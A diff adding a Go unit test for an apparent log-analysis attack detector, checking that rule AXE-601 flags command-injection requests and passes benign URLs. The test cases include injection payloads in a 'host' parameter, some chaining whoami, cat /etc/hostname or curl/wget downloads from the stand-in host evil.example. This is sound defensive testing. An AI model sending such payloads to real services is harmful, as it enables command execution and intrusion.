@@ -0,0 +1,45 @@
+package main
+
+import (
+	"net/http"
+	"testing"
+)
+
+func TestDetectAttacksCommandInjection(t *testing.T) {
+	tests := []struct {
+		uri  string
+		want bool
+	}{
+		{"/product?page=2&id=42", false},
+		{"/search?q=a&sh=1", false},
+		{"/list?sort=name&ls=1", false},
+		{"/list?a=1&cat=shoes&nc=0", false},
+		{"/list?a=1+&+id=2", false},
+		{"/list?a=1;id=2", false},
+		{"/page;jsessionid=abc", false},
+
+		{"/ping?host=127.0.0.1;id", true},
+		{"/ping?host=127.0.0.1%3Bcat+/etc/hostname", true},
+		{"/ping?host=127.0.0.1|whoami", true},
+		{"/ping?host=127.0.0.1%7Cwhoami&x=1", true},
+		{"/ping?host=x%26%26+curl+http://evil.example/x", true},
+		{"/ping?host=x%26%26curl%20evil.example", true},
+		{"/ping?host=x+%26+wget+http://evil.example/x", true},
+		{"/ping?host=x;ls+-la", true},
+	}
+	for _, test := range tests {
+		req, err := http.NewRequest("GET", test.uri, nil)
+		if err != nil {
+			t.Fatalf("%s: %v", test.uri, err)
+		}
+		var got []string
+		for _, f := range detectAttacks(&LogLine{Request: req}) {
+			if f.rule.id == "AXE-601" {
+				got = append(got, f.match)
+			}
+		}
+		if (len(got) > 0) != test.want {
+			t.Errorf("%s: AXE-601 matched %q, want match %v", test.uri, got, test.want)
+		}
+	}
+}